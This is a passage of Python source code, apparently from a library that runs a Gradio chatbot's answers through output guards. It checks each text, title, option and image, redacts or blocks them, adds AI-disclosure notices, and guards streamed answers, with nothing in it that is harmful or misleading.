    checked this turn (as output and as input): a Blocks handler returns the whole history."""
    return (i < len(known) and isinstance(message, Mapping) and message.get("role") == "assistant"
            and message == known[i])


def _multimodal(message: Mapping[str, Any], content: Any) -> dict[str, Any]:
    """``message`` (a ``{"text", "files"}`` dict) showing ``content``: the checked parts its view read, each
    file in the form it was given (a path, or a ``{"path"}`` dict), or the block message alone."""
    if isinstance(content, str):  # blocked: the block message, none of its files
        return {**message, "text": content, "files": []}
    listed = message.get("files") or []
    checked = content[:len(listed)]
    files = [new if isinstance(old, Mapping) else _path_of(new) for old, new in zip(listed, checked, strict=True)]
    text = content[len(listed)] if len(content) > len(listed) else message["text"]
    return {**message, "text": text, "files": files}


def _checked_fields(mapping: Mapping[str, Any], fields: dict[tuple[Any, ...], str | None],
                    where: tuple[Any, ...]) -> tuple[dict[str, Any], bool]:
    """A copy of ``mapping`` with its checked texts, less those that block; and whether one did."""
    out: dict[str, Any] = {}
    blocked = False
    for key, value in mapping.items():
        if (*where, key) not in fields:
            out[key] = value
        elif (checked := fields[(*where, key)]) is None:
            blocked = True
        else:
            out[key] = checked
    return out, blocked


def _parts(content: Any, files: bool) -> tuple[list[str], list[Any]]:
    """The texts and the files of a message's content: a string, a file (see :func:`_is_file`), or a list
    of strings, ``{"type": "text"}`` parts and files. Files only when ``files`` (output image guards)."""
    if isinstance(content, str):
        return [content], []
    if files and _is_file(content):
        return [], [content]
    if not isinstance(content, list | tuple):
        raise _unreadable(content, "a message's content")
    texts, found = [], []
    for part in content:
        if isinstance(part, str):
            texts.append(part)
        elif files and _is_file(part):  # before its type: Gradio shows a "text" part with a "path" as the file
            found.append(part)
        elif isinstance(part, Mapping) and part.get("type") == "text" and isinstance(part.get("text"), str) and (
                not _is_file(part)):
            texts.append(part["text"])
        else:
            raise _unreadable(part, "a part of a message's content")
    return texts, found


def _with_parts(content: Any, texts: Iterator[str], files: Iterator[Any]) -> Any:
    """``content`` with its texts and files (in the order :func:`_parts` read them) replaced."""
    if isinstance(content, str):
        return next(texts)
    if _is_file(content):
        return next(files)
    return [next(texts) if isinstance(part, str) else next(files) if _is_file(part) else {**part, "text": next(texts)}
            for part in content]


def _fields(metadata: Any, options: Any) -> dict[tuple[Any, ...], str]:
    """The texts Gradio shows besides the content: a thought's title and log, the options' buttons."""
    if metadata is not None and not isinstance(metadata, Mapping):
        raise _unreadable(metadata, "a message's metadata")
    if options is not None and not isinstance(options, list | tuple):
        raise _unreadable(options, "a message's options")
    found: dict[tuple[Any, ...], Any] = {("metadata", k): (metadata or {}).get(k) for k in _SHOWN_METADATA}
    for n, option in enumerate(options or ()):
        if not isinstance(option, Mapping):
            raise _unreadable(option, "an option")
        found.update({("options", n, k): option.get(k) for k in _SHOWN_OPTION})
    for text in found.values():
        if text is not None and not isinstance(text, str):
            raise _unreadable(text, "a title, log or option")
    return {key: text for key, text in found.items() if text is not None}


_FILE_TEXTS = ("alt_text", "orig_name", "label")  # what the Chatbot shows of a file besides the file


def _file_texts(files: list[Any]) -> dict[tuple[Any, ...], str]:
    """The texts the Chatbot shows with each file of an answer, checked as a title is: a ``{"path"}`` part's
    alt text (the image's ``alt``, which screen readers read out) and name (a file link shows its
    ``orig_name``), a ``{"type": "file"}`` part's file name, a component's label (drawn above the image)."""
    found: dict[tuple[Any, ...], Any] = {}
    for n, part in enumerate(files):
        if isinstance(part, Mapping):
            file = part if "path" in part else part.get("file")
            found[("alt_text", n)] = part.get("alt_text")
            found[("orig_name", n)] = file.get("orig_name") if isinstance(file, Mapping) else None
        else:
            found[("label", n)] = part.constructor_args.get("label")
    for (name, _), text in found.items():
        if text is not None and not isinstance(text, str):
            raise _unreadable(text, f"a file's {name.replace('_', ' ')}")
    return {key: text for key, text in found.items() if text is not None}


def _with_file_texts(shown: Any, texts: dict[str, str | None]) -> Any:
    """A file part as shown, with its checked texts (each left out when it was redacted away)."""
    if not texts:
        return shown
    if not isinstance(shown, Mapping):  # a component, made anew with its checked label
        return type(shown)(**{**shown.constructor_args, "label": texts.get("label") or None, "render": False})
    out = dict(shown)
    if "alt_text" in texts:
        out = {k: v for k, v in out.items() if k != "alt_text"} | ({"alt_text": texts["alt_text"]}
                                                                   if texts["alt_text"] else {})
    if "orig_name" in texts:
        key = "path" if "path" in out else "file"
        file = out if key == "path" else dict(out.get("file") or {})
        file = {k: v for k, v in file.items() if k != "orig_name"} | ({"orig_name": texts["orig_name"]}
                                                                       if texts["orig_name"] else {})
        out = file if key == "path" else {**out, "file": file}
    return out


def _unreadable(value: Any, where: str) -> GuardConfigError:
    hint = ("; a tuple is the answer of a ChatInterface with additional_outputs: tell guard_chat how many, "
            "guard_chat(fn, pipeline, additional_outputs=N)") if isinstance(value, tuple) else ""
    return GuardConfigError(
        f"the chat function answered with {type(value).__name__} as {where}: the output guards read text, "
        "so it cannot be checked, and it is not shown unchecked; answer text, or messages whose content, "
        f"metadata title and log, and options are text{hint}", where="guard_chat")


@dataclass
class _Text:
    """One text of a message answer: what of it may be shown, or the verdict that blocked it."""

    shown: str = ""
    blocked: Verdict | None = None
    stream: StreamGuard | None = None  # a streamed answer's: guards this text as it grows
    source: str = ""  # what the chat function has streamed of it so far


@dataclass
class _File:
    """One file of a message answer: what to show for it (itself, or the changed image), or the block."""

    shown: Any = None
    blocked: Verdict | None = None


def _file_key(part: Any) -> Any:
    """A file part's identity while unchanged: the part (by id, for a component) and its files' states."""
    paths = [_path_of(f) for f in _component_files(part)] if not isinstance(part, Mapping) else [
        _path_of(part if "path" in part else part.get("file"))]
    states = []
    for path in paths:
        try:
            stat = os.stat(path)
            states.append((path, stat.st_mtime_ns, stat.st_size))
        except (OSError, TypeError, ValueError):
            states.append((repr(path), None, None))
    return (id(part) if not isinstance(part, Mapping) else repr(part), tuple(states))


def _path_of(file: Any) -> Any:
    return file.get("path") if isinstance(file, Mapping) else getattr(file, "path", file)


def _component_files(component: Any) -> list[Any]:
    """The files a ``gr.Image`` or ``gr.File`` shows: its value, which Gradio keeps as file data (a
    ``{"path", "url", ...}`` dict, a list of them for a ``gr.File`` of several), or None (empty)."""
    value = component.value
    if callable(component.constructor_args.get("value")):  # Gradio would call it again to show it
        raise _unreadable(component, "a message's content (a component whose value is a function)")
    return [] if value is None else list(value) if isinstance(value, list | tuple) else [value]


def _shown_paths(part: Any) -> list[Any]:
    """The paths of the files a checked file part shows (its shape as :func:`_checked_part` returns it)."""
    if isinstance(part, Mapping):
        return [_path_of(part if "path" in part else part.get("file"))]
    return [_path_of(file) for file in _component_files(part)]


def _checked_part(check: Callable[[Any], Steps[Any]], part: Any) -> Steps[Any]:
    """A file part through ``check`` (raises _Refused when it blocks), in its shape: a ``{"path"}`` dict
    with its path replaced, a ``{"type": "file"}`` part with its file, a component made anew."""
    if isinstance(part, Mapping):
        if "path" not in part:  # Gradio shows a part's "path" before its "file"
            return {**part, "file": (yield from check(part.get("file")))}
        return (yield from check(part))
    files = _component_files(part)
    checked = []
    for file in files:
        checked.append((yield from check(file)))
    if not files:
        return part
    # Made anew from the copies the guards read even when unchanged: Gradio's Chatbot makes a component
    # anew from the path it was given (constructor_args), which may hold another image by then.
    paths = [_path_of(new) for new in checked]
    value = paths if isinstance(part.value, list | tuple) else paths[0]
    return type(part)(**{**part.constructor_args, "value": value, "render": False})


class _Answer:
    """An answer in messages, its texts checked by the output guards, each message kept in its type.

    Every text a message shows is checked: its content's texts, its metadata's title and log, its options'
    labels and values (a thought's or a tool call's title is shown too) and its files' alt texts. Each
    content text is checked as an answer of its own (so each carries the AI label, and the first-turn
    notice on a first turn); a title, log, option or alt text gets the guards' redactions, not their
    notices. A message any of
    whose texts blocks shows the block message as its content, without the title, log or option that
    blocked. Without output guards (text), the answer is shown as it was given.

    An answer that shows files and no text (an image alone) has no text for the ``ai_disclosure`` guards to
    put their notice in: when one is due (the first turn), their output for an empty answer (the notice,
    and the label) goes before it as a message of its own, recorded as their decisions always are. A
    stream whose first item shows no text gets it then, and its texts that follow are guarded as of a
    later turn, so the notice is not shown twice.
    """

    def __init__(self, pipeline: Pipeline, context: Context, *, raise_on_block: bool,
                 check_file: Callable[[Any], Steps[Any]] | None = None, known: Sequence[Any] = (),
                 own: set[str] | frozenset[str] = frozenset(), quiet: Pipeline | None = None,
                 remote: _Remote | None = None) -> None:
        self.pipeline, self.context = pipeline, replace(context, stage=Stage.OUTPUT)
        self.known, self.own, self.quiet = known, own, quiet or pipeline
        self.remote = remote or _Remote()
        self.final = True  # False while a stream goes on: an image not closed yet is held back
        self.raise_on_block = raise_on_block
        self.checks = bool(pipeline.guards)  # output guards of any modality: nothing passes unchecked
        # A file's path (or name) through the output image guards: what to show instead, or _Refused.
        self.check_file = check_file if pipeline.stage_guards(Stage.OUTPUT, Modality.IMAGE) else None
        self.files: dict[Any, _File] = {}  # by _file_key: a stream shows a file again with each item
        self.views: list[_View] = []
        self.many = False  # a list of messages, not one
        self.texts: dict[tuple[int, int], _Text] = {}  # by (message, text in it)
        self.verdicts: dict[str, Verdict] = {}  # on each title, log or option text
        self.disclosure = Pipeline([g for g in pipeline.guards if g.spec.type == "ai_disclosure"
                                    and g.spec.modality is Modality.TEXT], sink=pipeline.sink)
        self.notice: str | None = None  # shown before an answer of files alone (see the class docstring)
        self.notice_failed: Verdict | None = None  # its guard failed: every message shows the block message

    def whole(self, answer: Any) -> Steps[Any]:
        """A returned answer: each text checked whole, as a text answer is."""
        if not self.checks:
            return answer
        self._read(answer)
        for key, text in self._keyed():
            if (yield from self._users(key, text)):
                continue
            verdict = yield _Check(self.pipeline, text, Modality.TEXT, self.context, Stage.OUTPUT)
            self.texts[key] = _Text(verdict.output) if verdict.allowed else _Text(blocked=verdict)  # type: ignore[arg-type]
        yield from self._check_fields()
        yield from self._check_files()
        yield from self._notice()
        self._raise_if_blocked()
        return self.shown()

    def update(self, answer: Any) -> Steps[None]:
        """A streamed answer's next item: the whole answer so far (each text must extend what it was)."""
        self.final = False
        self._read(answer)
        for key, text in self._keyed():
            if key not in self.texts and (yield from self._users(key, text)):
                continue
            slot = self.texts.get(key)
            if slot is None:
                # after a notice of its own (see _notice), the notice is not due again
                context = self.context if self.notice is None else replace(self.context, turn=self.context.turn + 1)
                slot = self.texts[key] = _Text(stream=self.pipeline.stream_output((), context))
                slot.shown += "".join((yield _Push(slot.stream, "begin")))
            if slot.blocked is not None or slot.stream is None:  # blocked, or the user's own words
                continue
            if not text.startswith(slot.source):  # shown text cannot be taken back: fail closed
                slot.blocked = _rewound()
                continue
            chunk, slot.source = text[len(slot.source):], text
            if chunk:
                slot.shown += "".join((yield _Push(slot.stream, "feed", chunk)))  # type: ignore[arg-type]
            if slot.stream.blocked:  # type: ignore[union-attr]
                yield from self._end(slot)
        yield from self._check_fields()
        yield from self._check_files()
        yield from self._notice()
        self._raise_if_blocked()

    def abandon(self) -> None:
        """The answer was left before its end (Gradio's stop button, a closed connection): each text streamed
        so far is recorded as shown, marked ``stream_incomplete``. Nothing happens to texts that ended."""
        for slot in self.texts.values():
            if slot.stream is not None:
                slot.stream.abandon()

    def finish(self) -> Steps[None]:
        """The stream is over: each text's held tail and final additions (labels, disclaimers)."""
        self.final = True
        for slot in self.texts.values():
            if slot.blocked is None and slot.stream is not None:
                yield from self._end(slot)
        self._raise_if_blocked()

    def _users(self, key: tuple[int, int], text: str) -> Steps[bool]:
        """A text of a message from the user (a Blocks handler returns the whole history) that is one of the
        user's own, as checked: shown with the output guards' redactions, without the AI label or notice (it
        is no AI output), and not recorded (it was, when sent). Any other text is checked as the AI's."""
        if self.views[key[0]].role != "user" or text not in self.own:
            return False
        verdict = yield _Check(self.quiet, text, Modality.TEXT, self.context, Stage.OUTPUT)
        if verdict.allowed and isinstance(verdict.output, str):
            self.texts[key] = _Text(verdict.output[len(verdict.prefix):len(verdict.output) - len(verdict.suffix)])
        else:
            self.texts[key] = _Text(blocked=verdict)
        return True

    def _notice(self) -> Steps[None]:
        """For an answer that shows files and no text, the ai_disclosure guards' output for an empty answer
        (their notice, when due), once: shown before the answer as a message of its own."""
        if self.notice is not None or self.texts or not any(view.files for view in self.views):
            return
        if not any(g.params.notice and (self.context.turn == 0 or not g.params.first_turn_only)
                   for g in self.disclosure.guards):
            return
        verdict = yield _Check(self.disclosure, "", Modality.TEXT, self.context, Stage.OUTPUT)
        if verdict.allowed and isinstance(verdict.output, str):
            self.notice = verdict.output.strip()
        else:  # the guard failed (it never blocks otherwise): nothing is shown without its notice
            self.notice_failed = verdict

    def blocked(self) -> Verdict | None:
        """The first verdict that blocks a message now shown, if any."""
        return next((v for i, view in enumerate(self.views) if (v := self._block(i, view)) is not None), None)

    def shown(self) -> Any:
        """The answer as it may be shown: checked texts, block messages, in the types it was given in."""
        _keep(path for file in self.files.values() if file.shown is not None for path in _shown_paths(file.shown))
        shown = [self._shown(i, view) for i, view in enumerate(self.views)]
        if self.notice:
            return [self.notice, *shown]
        return shown if self.many else shown[0]

    def _read(self, answer: Any) -> None:
        self.many = isinstance(answer, list)
        files = self.check_file is not None
        self.views = [_View.settled(m) if self.many and _known(m, self.known, i) else _View.of(m, files)
                      for i, m in enumerate(answer if self.many else [answer])]

    def _check_files(self) -> Steps[None]:
        """Each file shown through the output image guards (once each, while it is unchanged)."""
        assert self.check_file is not None or not any(view.files for view in self.views)
        for view in self.views:
            for part in view.files:
                key = _file_key(part)
                if key not in self.files:
                    try:
                        self.files[key] = _File(shown=(yield from _checked_part(self.check_file, part)))  # type: ignore[arg-type]
                    except _Refused as refused:
                        self.files[key] = _File(blocked=refused.verdict)

    def _keyed(self) -> Iterator[tuple[tuple[int, int], str]]:
        for i, view in enumerate(self.views):
            for j, text in enumerate(view.texts):
                yield (i, j), text

    def _end(self, slot: _Text) -> Steps[None]:
        slot.shown += "".join((yield _Push(slot.stream, "end")))  # type: ignore[arg-type]
        verdict = slot.stream.verdict  # type: ignore[union-attr]
        if verdict is not None and not verdict.allowed:
            slot.blocked = verdict

    def _check_fields(self) -> Steps[None]:
        for view in self.views:
            for text in view.fields.values():
                if text not in self.verdicts:
                    self.verdicts[text] = yield _Check(self.pipeline, text, Modality.TEXT, self.context, Stage.OUTPUT)

    def _raise_if_blocked(self) -> None:
        if self.raise_on_block and (verdict := self.blocked()) is not None:
            raise GuardBlocked(verdict, Stage.OUTPUT)

    def _block(self, i: int, view: _View) -> Verdict | None:
        if self.notice_failed is not None:
            return self.notice_failed
        for j in range(len(view.texts)):
            if (blocked := self.texts[(i, j)].blocked) is not None:
                return blocked
        for part in view.files:
            if (blocked := self.files[_file_key(part)].blocked) is not None:
                return blocked
        return next((v for text in view.fields.values() if not (v := self.verdicts[text]).allowed), None)

    def _field(self, text: str) -> str | None:
        """A title's, log's or option's text as the guards let it through (redacted), without the
        notice and label they add to an answer; None when it blocks."""
        verdict = self.verdicts[text]
        if not verdict.allowed or not isinstance(verdict.output, str):
            return None
        return self.remote.shown(verdict.output[len(verdict.prefix):len(verdict.output) - len(verdict.suffix)])

    def _shown(self, i: int, view: _View) -> Any:
        if view.checked:
            return view.message
        fields = {key: self._field(text) for key, text in view.fields.items()}
        blocked = self._block(i, view)
        if blocked is not None:
            content: Any = block_message(blocked)
        else:
            files = (_with_file_texts(self.files[_file_key(f)].shown,
                                      {name: fields[(name, n)] for name in _FILE_TEXTS if (name, n) in fields})
                     for n, f in enumerate(view.files))
            texts = (self.remote.shown(self.texts[(i, j)].shown, final=self.final) for j in range(len(view.texts)))
            content = _with_parts(view.content, texts, files)
        return view.shown(content, fields)


def _streamed(chat: _ChatGuard, first: Any, source: Generator[Any, None, None], call: _Call) -> Iterator[Any]:
    """A stream in messages: each item is the whole answer so far (Gradio's ChatInterface shows each
    item in place of the last), each text of it guarded as a cumulative stream. A block ends it."""
    answer = chat.answer(call)
    if not answer.checks:
        yield first
        yield from source
        return
    item = first
    try:
        while item is not _END:
            _run(answer.update(item))
            if answer.blocked() is not None:
                break
            yield answer.shown()
            item = next(source, _END)
        source.close()  # a blocked answer asks for nothing more
        _run(answer.finish())
        yield answer.shown()
    finally:
        answer.abandon()


async def _astreamed(chat: _ChatGuard, first: Any, source: Any, call: _Call) -> AsyncIterator[Any]:
    answer = chat.answer(call)
    if not answer.checks:
        yield first
        async for item in source:
            yield item
        return
    item = first
    try:
        while item is not _END:
            await _arun(answer.update(item))
            if answer.blocked() is not None:
                break
            yield answer.shown()
            item = await anext(source, _END)
        await source.aclose()  # a blocked answer asks for nothing more
        await _arun(answer.finish())
        yield answer.shown()
    finally:
        answer.abandon()
